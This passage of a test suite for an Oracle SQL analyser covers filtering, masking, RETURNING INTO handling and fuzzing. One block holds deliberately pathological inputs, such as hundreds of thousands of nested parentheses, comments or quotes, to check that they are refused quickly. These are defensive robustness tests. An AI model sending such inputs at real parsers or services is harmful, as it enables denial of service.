    ['a log of errors', 'insert all into hr.salary (id) values (1) log errors select 1 from dual', 'unsupported'],
  ])('refuses INSERT ALL with %s', async (_what, sql, code) => {
    await expect(analyse('oracle', sql, catalogue)).rejects.toMatchObject({ code });
  });

  it('filters the query of INSERT ALL, and masks what is written beside a column', async () => {
    const sql = "insert all into customer (phone) values ('138') select id from customer where id = :p1";
    const filtered = [{ schema: 'APP', name: 'CUSTOMER', columns: ['PHONE'] }];
    const { filterEdits = [], literals } = await analyse('oracle', sql, catalogue, { filtered });
    expect(filteredSql('oracle', sql, filterEdits, [[{ column: 'PHONE' }, ' = ', { value: 'x' }]], 1).text).toMatch(
      /^insert all into customer \(phone\) values \('138'\) select id from \(SELECT "sluice_row"\.\* FROM customer /,
    );
    expect(literals.map(({ start, end, column }) => [sql.slice(start, end), column?.column])).toEqual([
      ["'138'", 'PHONE'],
    ]);
  });

  it('names what RETURNING gives to variables, and that it goes there', async () => {
    const given = async (sql: string) => {
      const { result, intoVariables, observed: shown } = await analyse('oracle', sql, catalogue);
      return {
        result: result.map(({ sources, exact }) => [sources.map(({ column }) => column).join(' '), exact]),
        intoVariables,
        told: shown.map(({ column }) => column.column),
      };
    };
    expect(await given('delete from customer where id = :p1 returning phone, id into :p2, :p3')).toEqual({
      result: [
        ['PHONE', true],
        ['ID', true],
      ],
      intoVariables: true,
      told: ['ID'],
    });
    const masked = await given(
      "update customer set born = null return upper(phone) || 'x', max(id) into :a :b, :c indicator :d",
    );
    expect(masked.result).toEqual([
      ['PHONE', false],
      ['ID', false],
    ]);
    expect(masked.told).toContain('PHONE');
    expect((await given('insert into hr.salary (id) values (1) returning id into :x')).intoVariables).toBe(true);
    expect(
      (await given('insert into hr.salary (id) select length(phone) from customer returning id into :x')).result,
    ).toEqual([['ID PHONE', false]]);
    expect((await given('delete from customer where id = 1')).intoVariables).toBeUndefined();
  });

  it.each([
    ['parentheses', `select ${'('.repeat(500_000)}1${')'.repeat(500_000)} from dual`],
    ['queries', `select * from ${'(select * from '.repeat(5_000)}customer${')'.repeat(5_000)}`],
    ['CASE', `select ${'case when 1 = 1 then '.repeat(20_000)}1${' end'.repeat(20_000)} from dual`],
    ['NOT', `select id from customer where ${'not '.repeat(100_000)} 1 = 1`],
    ['PRIOR', `select ${'prior '.repeat(100_000)} id from customer`],
    ['comments', '/*'.repeat(500_000)],
    ['quotes of its own', "q'".repeat(300_000)],
    ['quotes', '"'.repeat(1_000_001)],
    ['joins', `select * from ${'(customer join '.repeat(50_000)}`],
    ['groups', `select 1 from customer group by ${'('.repeat(100_000)}`],
    ['paths of JSON', `select * from json_table('x', '$' columns (${"nested '$' columns (".repeat(50_000)}`],
    ['blocks', 'begin '.repeat(200_000)],
  ])('refuses hostile %s in time', async (_name, sql) => {
    const from = performance.now();
    await expect(analyse('oracle', sql, catalogue)).rejects.toBeInstanceOf(SqlRefusal);
    expect(performance.now() - from).toBeLessThan(5000);
  });

  it('reads long chains', async () => {
    const sql = `select id from customer where ${Array.from({ length: 20_000 }, (_, n) => `id = ${n}`).join(' or ')}`;
    expect((await analyse('oracle', sql, catalogue)).predicates.map(({ column }) => column.column)).toContain('ID');
  });

  const words = (
    'select ( ) * , from customer c where id = 1 and or not in exists between like is null distinct case when then else end "X" ' +
    "'s' q'[x]' n'y' :p1 join left natural using cross outer apply lateral on group by having order siblings offset rows fetch first next " +
    'only union minus all intersect with start connect prior nocycle level rownum rowid over partition keep dense_rank within insert into ' +
    'values update set delete merge matched . - + / % ; cast to_char ( number json_table columns path date extract as of scn for decode nvl2 ' +
    'pivot model json_object value key dual search cycle grouping sets rollup begin end declare create procedure returning return : log errors'
  ).split(' ');

  it('answers or refuses any words, and never fails otherwise', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...words), { maxLength: 30 }), async (found) => {
        for (const verb of ['select', 'insert all', 'delete from customer returning'])
          try {
            await analyse('oracle', `${verb} ${found.join(' ')}`, catalogue);
          } catch (error) {
            expect(error).toBeInstanceOf(SqlRefusal);
          }
      }),
      { numRuns: 2000 },
    );
  });

  it('answers or refuses any bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 200 }), async (text) => {
        try {
          await analyse('oracle', text, catalogue);
        } catch (error) {
          expect(error).toBeInstanceOf(SqlRefusal);
        }
      }),
      { numRuns: 1000 },
    );
  });
});
